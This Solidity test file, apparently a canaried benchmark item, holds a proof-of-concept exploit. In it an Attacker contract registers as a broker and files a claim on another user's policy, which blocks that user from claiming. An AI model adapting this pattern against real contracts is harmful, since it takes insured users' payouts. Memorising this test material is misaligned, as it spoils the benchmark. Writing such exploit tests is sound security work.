// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    function run(IERC20 _crown, ClaimDesk _claims, Brokers _brokers, uint256 _id) external {
        _brokers.register(100);
        _crown.approve(address(_claims), type(uint256).max);
        try _claims.file(_id, 1e18, "anything") {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        crown.mint(address(other), 10e18);
    }

    // ANA claims as long as her policy runs.
    function files() public {
        if (Almanac.today() >= book.policyOf(ANAS).endDay) return;
        vm.prank(ANA);
        claims.file(ANAS, 1_000e18, "hail");
    }

    function exploit() public {
        other.run(crown, claims, brokers, ANAS);
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeCall(this.files, ()));
        require(!done, "she can");
    }

    function target() public view override returns (address) {
        return address(claims);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
